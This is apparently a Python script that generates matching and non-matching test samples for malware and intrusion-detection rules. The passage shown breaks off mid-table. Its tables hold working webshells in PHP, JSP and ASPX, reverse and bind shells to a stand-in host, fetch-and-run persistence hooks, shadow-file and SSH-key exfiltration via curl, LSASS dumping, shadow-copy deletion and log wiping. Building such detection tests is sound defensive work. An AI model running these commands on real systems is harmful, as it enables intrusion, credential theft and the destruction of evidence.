#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes files that each of our rules must hit, and one like them that it must not: OUT/hit/RULE/NAME and
OUT/miss/RULE/NAME; and command lines of honest work, OUT/honest/NAME, that no rule may hit. The tables are below; nothing here
is a real implant."""
import hashlib
import os
import sys
from xml.sax.saxutils import escape

ELF_SO = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 44
ELF_REL = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x01\0\x3e\0" + b"\0" * 44
ELF_EXE = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0" + b"\0" * 44
ELF_ARM = b"\x7fELF\x01\x01\x01" + b"\0" * 9 + b"\x02\0\x28\0" + b"\0" * 32
PE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0"


def strings(head, *words):
    return head + b"\0".join(w if isinstance(w, bytes) else w.encode() for w in words) + b"\0"


def wide(text):
    return text.encode("utf-16-le")


def audit(args):
    """A command as auditd records it: what has blanks or quotes is in hex, and the title too."""
    def coded(arg):
        return arg.encode().hex().upper() if any(c in arg for c in ' "\n') else '"%s"' % arg
    words = " ".join("a%d=%s" % (i, coded(arg)) for i, arg in enumerate(args))
    return ("type=EXECVE msg=audit(1700000000.123:45): argc=%d %s\n" % (len(args), words) +
            "type=PROCTITLE msg=audit(1700000000.123:45): proctitle=%s\n" % "\0".join(args).encode().hex().upper())


UNIT = "[Unit]\nDescription=x\n[Service]\nType=simple\n%s\n[Install]\nWantedBy=multi-user.target\n"
PACKED = "QUJD" * 80

# rule: (name, bytes that hit), (name, bytes that do not)
SAMPLES = {
    "webshell_php_eval_request": (
        ("a.php", "<?php @eval($_POST['k']); ?>"),
        ("a.php", "<?php $n = $_POST['k']; echo htmlspecialchars($n); ?>")),
    "webshell_php_command_request": (
        ("a.php", "<?php echo shell_exec($_GET['c'].' 2>&1'); ?>"),
        ("a.php", "<?php $q = $db->exec('DELETE FROM t'); echo $_GET['c']; ?>")),
    "webshell_php_packed": (
        ("a.php", "<?php eval(gzinflate(base64_decode('%s'))); ?>" % PACKED),
        ("a.php", "<?php $image = base64_decode('%s'); ?>" % PACKED)),
    "webshell_php_upload_anything": (
        ("a.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_GET['to']); ?>"),
        ("a.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/srv/in/' . bin2hex(random_bytes(8))); ?>")),
    "webshell_jsp_command_request": (
        ("a.jsp", '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));'
                  " InputStream i = p.getInputStream(); %>"),
        ("a.jsp", '<%@ page import="java.io.*" %><% String q = request.getParameter("query"); out.print(q.length()); %>')),
    "webshell_jsp_class_loader": (
        ("a.jsp", '<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b)'
                  "{return super.defineClass(b,0,b.length);}}%><% String k = request.getReader().readLine(); %>"),
        ("a.jsp", '<%@ page import="java.util.*" %><% Class c = Class.forName("a.B"); request.getReader(); %>')),
    "webshell_aspx_request": (
        ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>'),
        ("a.aspx", '<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request["k"])); %>')),
    "reverse_shell_dev_tcp": (
        ("x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
        ("x.sh", "#!/bin/bash\nif : < /dev/tcp/127.0.0.1/22; then echo sshd is up; fi\n")),
    "reverse_shell_netcat": (
        ("x.sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n"),
        ("x.sh", "tar c /srv | nc -q1 192.0.2.7 4444\n")),
    "reverse_shell_script_language": (
        ("x.py", "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.7\",4444));os.dup2(s.fileno(),0);"
                 "os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])\n"),
        ("x.py", "import socket\ns = socket.socket()\ns.connect((\"192.0.2.7\", 80))\ns.send(b'GET / HTTP/1.0')\n")),
    "reverse_shell_in_cron": (
        ("root", "# m h dom mon dow\n*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'\n"),
        ("root", "# m h dom mon dow\n*/5 * * * * /usr/sbin/logrotate /etc/logrotate.conf\n")),
    "reverse_shell_in_unit": (
        ("x.service", UNIT % "ExecStart=/bin/bash -c '/bin/bash -l > /dev/tcp/192.0.2.7/443 0<&1 2>&1'"),
        ("x.service", UNIT % "ExecStart=/usr/sbin/sshd -D")),
    "persistence_cron_fetch_and_run": (
        ("root", "@reboot curl -fsSL http://192.0.2.7/a.sh | bash\n"),
        ("root", "0 3 * * * curl -fsS https://hc.example.org/ping > /dev/null\n")),
    "persistence_unit_from_temporary": (
        ("x.service", UNIT % "ExecStart=/dev/shm/.x/kworker"),
        ("x.service", UNIT % "ExecStart=/usr/lib/systemd/systemd-logind")),
    "persistence_preload_file": (
        ("ld.so.preload", "/dev/shm/libc_cache.so\n"),
        ("ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")),
    "persistence_preload_implant": (
        ("libx.so", strings(ELF_SO, "readdir64", "readdir", "__xstat", "dlsym", "/etc/ld.so.preload", "/proc/net/tcp")),
        ("libx.so", strings(ELF_SO, "readdir64", "readdir", "__xstat", "dlsym", "/proc/net/tcp"))),
    "persistence_pam_password_log": (
        ("pam_x.so", strings(ELF_SO, "pam_sm_authenticate", "pam_get_authtok", "/var/log/.cache", "user: %s pass: %s\n")),
        ("pam_x.so", strings(ELF_SO, "pam_sm_authenticate", "pam_get_authtok", "/var/log/btmp", "user %s failed\n"))),
    "persistence_udev_shell": (
        ("9.rules", 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/bash -c \'curl http://192.0.2.7/a | bash\'"\n'),
        ("9.rules", 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/udev/ifupdown-hotplug"\n')),
    "persistence_kernel_module_hides": (
        ("x.ko", strings(ELF_REL, "vermagic=6.1.0", "prepare_creds", "commit_creds", "__x64_sys_getdents64", "kallsyms_lookup_name")),
        ("x.ko", strings(ELF_REL, "vermagic=6.1.0", "prepare_creds", "commit_creds", "nfs4_proc"))),
    "persistence_authorized_key_forced_shell": (
        ("authorized_keys", 'command="/dev/shm/.s/run" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x\n'),
        ("authorized_keys", 'command="/usr/bin/borg serve" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x\n')),
    "tunnel_frp_program": (
        ("svc", strings(ELF_EXE, "github.com/fatedier/frp/client.NewService")),
        ("svc", strings(ELF_EXE, "github.com/prometheus/client_golang"))),
    "tunnel_frp_named_by_advisory": (
        ("SMSvcService.exe", PE),
        ("svchost.exe", PE)),
    "tunnel_frp_configuration": (
        ("frpc.ini", "[common]\nserver_addr = 192.0.2.7\nserver_port = 7000\n[x]\ntype = tcp\nremote_port = 6000\n"),
        ("x.ini", "[common]\nserver_addr = 192.0.2.7\ntimeout = 3\n")),
    "tunnel_earthworm": (
        ("ew", strings(ELF_EXE, "ssocksd", "rcsocks", "rssocks", "lcx_listen", "lcx_tran", "lcx_slave")),
        ("ew", strings(ELF_EXE, "socksd", "rcsocks"))),
    "tunnel_earthworm_command": (
        (".bash_history", "cd /tmp\n./ew -s rssocks -d 192.0.2.7 -e 8888\n./ew -s lcx_listen -l 1080 -e 8888\n"),
        (".bash_history", "ss -s\nnetstat -s -l 1080\n")),
    "tunnel_go_program": (
        ("c", strings(ELF_EXE, "github.com/jpillora/chisel/client.New")),
        ("c", strings(ELF_EXE, "github.com/jpillora/backoff"))),
    "tunnel_regeorg_page": (
        ("t.php", "<?php // x\n header('X-STATUS: OK'); if ($h['X-CMD']=='CONNECT') { $t=$h['X-TARGET']; }"
                  " if ($h['X-CMD']=='FORWARD') {} ?>"),
        ("t.php", "<?php header('X-STATUS: OK'); ?>")),
    "tunnel_ssh_reverse_unattended": (
        ("x.sh", "while :; do ssh -o StrictHostKeyChecking=no -i /tmp/k -fN -R 2222:localhost:22 a@192.0.2.7; done\n"),
        ("x.sh", "ssh -o StrictHostKeyChecking=no backup@192.0.2.7 uptime\n")),
    "tunnel_netsh_portproxy": (
        ("a.bat", "cmd.exe /c netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectport=8443\r\n"),
        ("a.bat", "netsh interface portproxy show all\r\n")),
    "credential_ntds_copy_command": (
        ("a.txt", 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q\r\n'),
        ("a.txt", 'ntdsutil "roles" "connections" "connect to server dc1" q q q\r\n')),
    "credential_wmic_remote_process": (
        ("a.txt", 'wmic /node:10.0.0.5 /user:x process call create "cmd /c whoami"\r\n'),
        ("a.txt", "wmic process list brief\r\n")),
    "credential_lsass_dump_command": (
        ("a.txt", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full\r\n"),
        ("a.txt", "rundll32.exe shell32.dll,Control_RunDLL\r\n")),
    "credential_registry_hives_command": (
        ("a.evtx", wide("cmd /c reg save hklm\\sam c:\\windows\\temp\\s.dat")),
        ("a.evtx", wide("cmd /c reg query hklm\\sam"))),
    "credential_mimikatz": (
        ("a.txt", "mimikatz # sekurlsa::logonpasswords full\r\n"),
        ("a.txt", "an article that names mimikatz\r\n")),
    "credential_impacket_program": (
        ("w.py", "from impacket.dcerpc.v5 import transport\n# wmiexec\nclass RemoteOperations: pass\n"),
        ("w.py", "import ldap3\n# compares with wmiexec\n")),
    "credential_impacket_trace": (
        ("a.log", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123 2>&1\n"),
        ("a.log", "cmd.exe /c whoami > \\\\fs1\\share\\out.txt\n")),
    "credential_psexec_service": (
        ("PSEXESVC.exe", PE + wide("PSEXESVC") + wide("\\\\.\\pipe\\PSEXESVC")),
        ("a.exe", PE + wide("SERVICE"))),
    "credential_shadow_copy_out": (
        ("x.sh", "#!/bin/sh\ncat /etc/shadow | base64 -w0 | curl -d @- http://192.0.2.7/\n"),
        ("x.sh", "#!/bin/sh\nchmod 640 /etc/shadow\n")),
    "credential_linux_memory_tool": (
        ("m.py", "# mimipenguin\nself._needles = [r'^.+libgck\\-1\\.so\\.0$']\n"),
        ("m.py", "# notes on gnome-keyring-daemon, which mimipenguin reads\n")),
    "lotl_event_log_cleared": (
        ("a.bat", "wevtutil cl security\r\n"),
        ("a.bat", "wevtutil qe security /c:3\r\n")),
    "lotl_directory_export": (
        ("a.bat", "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree\r\n"),
        ("a.bat", "ldifde.exe -f d:\\backup\\x.ldf\r\n")),
    "lotl_archive_of_loot": (
        ("a.bat", "7z.exe a -hpSecret1 c:\\windows\\temp\\up.7z c:\\windows\\temp\\ntds.dit\r\n"),
        ("a.bat", "7z.exe a backup.7z d:\\projects\r\n")),
    "lotl_history_disabled": (
        ("x.sh", "unset HISTFILE\ncurl -s http://192.0.2.7/i | sh\n"),
        ("x.sh", "unset HISTFILE\nls\n")),
    "edge_loader_many_architectures": (
        ("x.sh", "cd /tmp\nfor a in mips mipsel armv7l arm; do wget http://192.0.2.7/b.$a; chmod 777 b.$a; ./b.$a; done\n"),
        ("x.sh", "wget http://192.0.2.7/app.x86_64; chmod +x app.x86_64\n")),
    "edge_program_poses_as_kernel_thread": (
        ("b", strings(ELF_EXE, "[kworker/0:1]", "/proc/self/exe", "/proc/%d/cmdline", "killall")),
        ("b", strings(ELF_EXE, "/proc/self/exe", "/proc/%d/cmdline", "killall"))),
    "implant_bpfdoor": (
        ("b", strings(ELF_EXE, "hald-addon-acpi: listening on acpid socket", "qmgr -l -t fifo -u", "pickup -l -t fifo -u")),
        ("b", strings(ELF_EXE, "qmgr -l -t fifo -u"))),
    "implant_named_kernel_rootkit": (
        ("d.ko", strings(ELF_REL, "vermagic=6.1.0-18-amd64", "diamorphine", "hide_module")),
        ("d.ko", strings(ELF_REL, "vermagic=6.1.0-18-amd64", "is_invisible"))),
    "implant_named_preload_rootkit": (
        ("l.so", strings(ELF_SO, "certbotx64", "dlsym", "readdir")),
        ("l.so", strings(ELF_SO, "certbot", "dlsym", "readdir"))),
    "implant_named_ebpf_rootkit": (
        ("e", strings(ELF_EXE, "boopkit", ".BTF")),
        ("e", strings(ELF_EXE, "bpf_probe_write_user", ".BTF"))),
    "implant_sshd_with_hidden_file": (
        ("sshd", strings(ELF_SO, "sshd: no hostkeys available", "PermitRootLogin", "AuthorizedKeysFile", "/usr/include/.gpm")),
        ("sshd", strings(ELF_SO, "sshd: no hostkeys available", "PermitRootLogin", "AuthorizedKeysFile", "/run/sshd"))),
    "implant_memfd_loader_script": (
        ("x.pl", "my $fd = syscall(319, $n, 1);\nopen($o, '>&=', $fd);\nexec {\"/proc/$$/fd/$fd\"} 'kworker';\n"),
        ("x.py", "fd = os.memfd_create('log')\nos.write(fd, b'x')\n")),
    "packed_elf_upx": (
        ("p", strings(ELF_EXE[:64], "UPX!", "$Info: This file is packed with the UPX executable packer http://upx.sf.net $")),
        ("p", strings(ELF_EXE[:0x3c] + b"\x1d\0\x1c\0", "UPX!",
                      "$Info: This file is packed with the UPX executable packer http://upx.sf.net $"))),
    "packed_elf_without_sections": (
        ("p", ELF_EXE + b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(2000))),
        ("p", ELF_EXE + bytes(64000))),
    "edge_mirai_family": (
        ("m", strings(ELF_ARM, "/bin/busybox MIRAI", "/dev/watchdog")),
        ("m", strings(ELF_ARM, "/bin/busybox", "/dev/watchdog"))),
    "edge_router_exploit_string": (
        ("a.log", "203.0.113.9 - - \"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.7/m\"\n"),
        ("a.log", "203.0.113.9 - - \"GET /setup.cgi?next_file=netgear.cfg&todo=show HTTP/1.1\"\n")),
    "edge_cisco_guest_shell": (
        ("r.log", "%SYS-5-CFG: cmd: guestshell run bash\n"),
        ("r.log", "show app-hosting list\nguestshell disable\n")),
    "edge_salt_typhoon_command": (
        ("r.log", "RP/0/RP0: service sshd_operns start\n"),
        ("r.log", "RP/0/RP0: show service sshd\nmonitor capture mycap start\n")),
    "edge_router_implant_paths": (
        ("i", strings(ELF_ARM, "nvram set x=1", "/etc/init.d/rcS", "/proc/self/exe", "SOCKS5")),
        ("i", strings(ELF_ARM, "nvram set x=1", "/proc/self/exe", "SOCKS5"))),
    "bind_shell_command": (
        ("x.sh", "nc -lvp 4444 -e /bin/sh\n"),
        ("x.sh", "nc -l -p 4444 > backup.tar\n")),
    "reverse_shell_powershell": (
        ("a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',443);$s = $c.GetStream();"
                  "while(1){$r = (iex $d 2>&1 | Out-String )}\n"),
        ("a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',443);$s = $c.GetStream();$s.Close()\n")),
    "reverse_shell_elf_dropper": (
        ("x.sh", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > /dev/shm/.k; chmod +x /dev/shm/.k\n"),
        ("x.sh", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d | file -\n")),
    "webshell_php_session_key": (
        ("s.php", "<?php session_start(); $k='e45e329feb5d925b'; $_SESSION['k']=$k; $p=file_get_contents('php://input');"
                  "$p=openssl_decrypt($p,'AES128',$k); eval($p); ?>"),
        ("s.php", "<?php session_start(); $_SESSION['k'] = 1; $p = openssl_decrypt($cookie, 'AES128', $key); ?>")),
    "webshell_php_callback": (
        ("s.php", "<?php array_map('assert', $_POST['x']); ?>"),
        ("s.php", "<?php $n = array_map('trim', $_POST['names']); ?>")),
    "webshell_jsp_processbuilder": (
        ("s.jsp", '<% new java.lang.ProcessBuilder(new String[]{"sh","-c",request.getParameter("c")}).start(); %>'),
        ("s.jsp", '<% String c = request.getParameter("c"); out.print(c.length()); %>')),
    "webshell_aspx_process": (
        ("s.aspx", '<%@ Page Language="C#" %><% var i = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); Process.Start(i); %>'),
        ("s.aspx", '<%@ Page Language="C#" %><% Response.Write(Request["c"].Length); %>')),
    "webshell_aspx_assembly": (
        ("s.aspx", '<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))'
                   '.CreateInstance("U").Equals(this); %>'),
        ("s.aspx", '<%@ Page Language="C#" %><% Request.BinaryRead(10); %>')),
    "webshell_dropper_command": (
        ("h.log", "echo PD9waHAgZXZhbCgkX1BPU1RbJ2snXSk7Pz4= | base64 -d > /var/www/html/css/a.php\n"),
        ("h.log", "echo PD9waHAgcGhwaW5mbygpOz8+ | base64 -d\n")),
    "persistence_profile_fetch_and_run": (
        (".bashrc", "alias ll='ls -l'\ncurl -s http://192.0.2.7/i | bash >/dev/null 2>&1\n"),
        (".bashrc", "alias ll='ls -l'\n# curl -s https://sh.example/i | bash > /dev/null installs it\n")),
    "persistence_init_script_from_temporary": (
        ("rc.local", "#!/bin/sh\n/var/tmp/.x/agent &\nexit 0\n"),
        ("rc.local", "#!/bin/sh\nTMPDIR=/var/tmp\n/usr/bin/agent &\nexit 0\n")),
    "persistence_apt_hook": (
        ("99x", 'APT::Update::Pre-Invoke {"curl -s http://192.0.2.7/i | sh";};\n'),
        ("99x", 'APT::Update::Post-Invoke {"rm -f /var/cache/apt/archives/*.deb || true";};\n')),
    "persistence_authorized_keys_from_script": (
        ("x.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExample x' >> /root/.ssh/authorized_keys\n"
                 "chattr +i /root/.ssh/authorized_keys\n"),
        ("x.sh", "ssh-copy-id -i /root/.ssh/id_rsa.pub root@192.0.2.7\nchattr +i /etc/resolv.conf\n")),
    "persistence_systemd_preload": (
        ("x.service", UNIT % "Environment=LD_PRELOAD=/dev/shm/libx.so\nExecStart=/usr/sbin/sshd -D"),
        ("x.service", UNIT % "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nExecStart=/usr/bin/redis-server")),
    "tunnel_ngrok": (
        ("h", "ngrok tcp 22 --authtoken x\n"),
        ("h", "an article about ngrok\n")),
    "tunnel_cloudflared_token": (
        ("h", "cloudflared tunnel run --token eyJhIjoiMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWYifQ\n"),
        ("h", "cloudflared tunnel list\n")),
    "tunnel_dns": (
        ("h", "./dnscat2 --dns server=192.0.2.7,port=53 --secret=x\n"),
        ("h", "apt install iodine\n")),
    "tunnel_nps_client": (
        ("h", "./npc -server=192.0.2.7:8024 -vkey=abcdefgh -type=tcp\n"),
        ("h", "npc --help\n")),
    "tunnel_plink_reverse": (
        ("a.bat", "echo y | plink.exe -N -R 192.0.2.7:4444:127.0.0.1:3389 -pw x u@192.0.2.7\r\n"),
        ("a.bat", "plink.exe -batch build@git ls\r\n")),
    "tunnel_3proxy_configuration": (
        ("3proxy.cfg", "daemon\nauth none\nallow *\nsocks -p1080\n"),
        ("3proxy.cfg", "daemon\nauth strong\nusers a:CL:b\nsocks -p1080\n")),
    "tunnel_socat_relay": (
        ("h", "socat TCP-LISTEN:8443,fork,reuseaddr TCP:192.0.2.7:443 &\n"),
        ("h", "socat - UNIX-CONNECT:/run/x.sock\n")),
    "tunnel_softether_renamed": (
        ("conhost.exe", PE + wide("SoftEther VPN Bridge")),
        ("vpnbridge.exe", PE + wide("SoftEther VPN Bridge"))),
    "tunnel_softether_command": (
        ("a.log", 'cmd /c sc create SysMon binpath= "C:\\Windows\\System32\\conhost.exe /service"\r\n'),
        ("a.log", 'cmd /c sc create Backup binpath= "C:\\Backup\\agent.exe --service"\r\n')),
    "tunnel_ssf": (
        ("h", "./ssf -F 9000 -c config.json -p 443 192.0.2.7\n"),
        ("h", "ssf --version\n")),
    "credential_ntlm_dump": (
        ("d.txt", "".join("CORP\\u%d:110%d:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::\n" % (i, i)
                          for i in range(3))),
        ("d.txt", "u:1101:aad3b435b51404eeaad3b435b51404ee:\n")),
    "credential_kerberoast_output": (
        ("t.txt", "$krb5tgs$23$*svc$CORP.LOCAL$http/web*$" + "0a" * 16 + "$" + "1b" * 200 + "\n"),
        ("t.txt", "$krb5tgs$23$ is the format of hashcat's mode 13100\n")),
    "credential_rubeus_command": (
        ("a.evtx", wide("Rubeus.exe kerberoast /outfile:h.txt")),
        ("a.evtx", wide("kerberoast /outfile:h.txt is what to look for"))),
    "credential_wdigest_on": (
        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f\r\n"),
        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f\r\n")),
    "credential_shadow_elsewhere": (
        ("s.txt", "root:$6$saltsalt$" + "a" * 86 + ":19000:0:99999:7:::\n"),
        ("shadow", "root:$6$saltsalt$" + "a" * 86 + ":19000:0:99999:7:::\n")),
    "credential_key_harvest_script": (
        ("x.sh", "#!/bin/sh\ntar czf /tmp/k.tgz /home/*/.ssh\ncp /root/.ssh/id_rsa /tmp/k\ncurl -F f=@/tmp/k.tgz http://192.0.2.7/\n"),
        ("x.sh", "#!/bin/sh\ncp /root/.ssh/id_rsa /backup/\n")),
    "lotl_logon_log_query": (
        ("a.log", 'wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624)]] /c:20\r\n'),
        ("a.log", "wevtutil qe system /c:20\r\n")),
    "lotl_download_by_system_tool": (
        ("a.log", "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe c:\\windows\\temp\\a.exe\r\n"),
        ("a.log", "certutil.exe -hashfile a.exe SHA256\r\n")),
    "lotl_powershell_download": (
        ("a.log", "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\r\n"),
        ("a.log", "powershell (New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a', 'a')\r\n")),
    "lotl_powershell_hidden_encoded": (
        ("a.evtx", wide("powershell.exe -nop -w hidden -enc " + "SQBFAFgA" * 20)),
        ("a.evtx", wide("powershell.exe -nop -enc SQBFAFgA"))),
    "lotl_defender_off": (
        ("a.log", "powershell Set-MpPreference -DisableRealtimeMonitoring $true\r\n"),
        ("a.log", "powershell Set-MpPreference -DisableRealtimeMonitoring $false\r\n")),
    "lotl_scheduled_task_from_temporary": (
        ("a.log", 'schtasks /create /tn Upd /tr "C:\\Windows\\Temp\\u.exe" /sc minute /ru SYSTEM\r\n'),
        ("a.log", 'schtasks /create /tn Upd /tr "C:\\Program Files\\U\\u.exe" /sc daily /ru SYSTEM\r\n')),
    "lotl_shadow_copies_deleted": (
        ("a.log", "vssadmin delete shadows /all /quiet\r\n"),
        ("a.log", "vssadmin list shadows\r\n")),
    "lotl_linux_log_wiped": (
        ("h", "cat /dev/null > /var/log/wtmp\ncat /dev/null > /var/log/auth.log\n"),
        ("h", "cat /dev/null > /var/log/app.log\n: > /var/log/nginx/access.log\n")),
    "lotl_linux_time_stamp_copied": (
        ("x.sh", "touch -r /bin/ls /usr/bin/.x\nchattr +i /usr/bin/.x\n"),
        ("x.sh", "touch -r /etc/motd /tmp/stamp\n")),
    "miner_configuration": (
        ("config.json", '{"pools": [{"url": "stratum+tcp://pool.example:3333"}], "donate-level": 1}\n'),
        ("config.json", '{"url": "stratum+tcp://pool.example:3333"}\n')),
    "webshell_php_named": (
        ("w.php", "<?php $default_action = 'FilesMan'; function WSOsetcookie($k, $v) {} passthru($_POST['c']); ?>"),
        ("w.php", "<?php $known = array('FilesMan'); echo count($known); ?>")),
    "webshell_php_include_request": (
        ("i.php", "<?php @preg_replace('/.*/e', $_POST['x'], ''); include($_GET['f']); ?>"),
        ("i.php", "<?php include('lib/' . basename($_GET['f']) . '.php'); $n = preg_replace('/[^a-z]/i', '', $_POST['x']); ?>")),
    "webshell_php_hidden_name": (
        ("h.php", "<?php $f = 'ass'.'ert'; $f($_POST['x']); ?>"),
        ("h.php", "<?php $f = 'pass' . 'word'; echo strlen($_POST[$f]); ?>")),
    "webshell_php_weevely": (
        ("a.php", "<?php $k=\"5ebe2294\";$kh=\"ecd0e0f08eab\";$kf=\"7690d2a6ee69\";$p=\"x\"; ?>"),
        ("a.php", "<?php $k = 'key'; $n = str_replace('a', '', 'banana'); ?>")),
    "webshell_server_option_file": (
        (".htaccess", "RewriteEngine on\nAddType application/x-httpd-php .php .jpg\n"),
        (".htaccess", "AddType application/x-httpd-php .php\nAddType image/jpeg .jpg\n")),
    "webshell_cfm_execute": (
        ("c.cfm", "<cfexecute name=\"C:\\Windows\\System32\\cmd.exe\" arguments=\"/c #form.cmd#\" variable=\"o\"></cfexecute>"),
        ("c.cfm", "<cfexecute name=\"/usr/bin/convert\" arguments=\"-version\" variable=\"o\"></cfexecute>")),
    "webshell_script_command": (
        ("s.cgi", "#!/usr/bin/perl\nuse CGI qw(param);\nprint \"Content-type: text/plain\\n\\n\"; system(param('cmd'));\n"),
        ("s.cgi", "#!/usr/bin/perl\nuse CGI qw(param);\nsystem('/usr/bin/uptime'); print length(param('q'));\n")),
    "webshell_aspx_machine_key": (
        ("spinstall0.aspx", "<%@ Import Namespace=\"System.Reflection\" %><script runat=\"server\">var t = a.GetType(\"System.Web.Configuration.MachineKeySection\");"
                     "var c = t.GetMethod(\"GetApplicationConfig\").Invoke(null, null); Response.Write(c.ValidationKey+\"|\"+c.DecryptionKey);</script>"),
        ("a.aspx", "<%@ Page Language=\"C#\" %><% Response.Write(\"see MachineKeySection in the manual\"); %>")),
    "webshell_moveit_human2": (
        ("human2.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"MOVEit.DMZ.ClassLib\" %><% var p = Request.Headers[\"X-siLock-Comment\"]; %>"),
        ("human.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"MOVEit.DMZ.ClassLib\" %>")),
    "webshell_exchange_virtual_directory": (
        ("OAB.aspx", "Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\n"),
        ("oab.txt", "Name : OAB (Default Web Site)\r\nExternalUrl : https://mail.example.org/OAB\r\n")),
    "webshell_web_config": (
        ("web.config", "<configuration><system.webServer><handlers><add name=\"w\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"asp.dll\"/>"
                "</handlers></system.webServer></configuration>\n<% Response.Write(1) %>\n"),
        ("web.config", "<configuration><system.webServer><handlers><add name=\"w\" path=\"*.axd\" modules=\"IsapiModule\"/></handlers></system.webServer></configuration>\n")),
    "webshell_java_memory": (
        ("F.class", strings(b"\xca\xfe\xba\xbe\0\0\0\x34", "javax/servlet/Filter", "javax/crypto/Cipher", "java/lang/ClassLoader", "defineClass", "getHeader")),
        ("F.class", strings(b"\xca\xfe\xba\xbe\0\0\0\x34", "javax/servlet/Filter", "javax/crypto/Cipher", "getHeader"))),
    "reverse_shell_windows_netcat": (
        ("a.log", "c:\\perflogs\\nc.exe -d 192.0.2.7 443 -e cmd.exe\r\n"),
        ("a.log", "nc.exe -z 192.0.2.7 443\r\n")),
    "reverse_shell_other_languages": (
        ("h", "telnet 192.0.2.7 4444 | /bin/sh | telnet 192.0.2.7 4445\n"),
        ("h", "telnet 192.0.2.7 25 | tee log\nawk 'BEGIN { s = \"/inet/tcp/0/time.example.org/13\"; s |& getline l; print l }'\n")),
    "reverse_shell_php_descriptors": (
        ("r.php", "<?php $shell='/bin/sh -i'; $sock = fsockopen($ip, $port, $e, $s, 30); $d = array(0 => array(\"pipe\", \"r\"));"
            "$p = proc_open($shell, $d, $pipes); stream_select($a, $b, $c, null); ?>"),
        ("r.php", "<?php $sock = fsockopen($ip, 25); $d = array(0 => array(\"pipe\", \"r\")); $p = proc_open('gpg', $d, $pipes); stream_select($a, $b, $c, 0); ?>")),
    "reverse_shell_small_elf": (
        ("p", ELF_EXE + bytes.fromhex("6a2958996a025f6a015e0f054897")),
        ("p", ELF_EXE + bytes.fromhex("6a2958996a035f6a015e0f054897"))),
    "reverse_shell_powershell_named": (
        ("a.log", "Invoke-PowerShellTcp -Reverse -IPAddress 192.0.2.7 -Port 443\r\n"),
        ("a.log", "Invoke-WebRequest -Uri https://example.org\r\n")),
    "persistence_pam_configuration": (
        ("pam.d/sshd", "#%PAM-1.0\nauth sufficient pam_permit.so\n@include common-auth\n"),
        ("pam.d/sshd", "#%PAM-1.0\nauth required pam_permit.so\nsession optional pam_exec.so /usr/sbin/notify\n")),
    "persistence_sshd_configuration": (
        ("sshd_config", "Port 22\nAuthorizedKeysFile .ssh/authorized_keys /usr/share/misc/keys\n"),
        ("sshd_config", "Port 22\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u\nSubsystem sftp /usr/lib/openssh/sftp-server\n")),
    "persistence_sudoers_service_account": (
        ("sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n"),
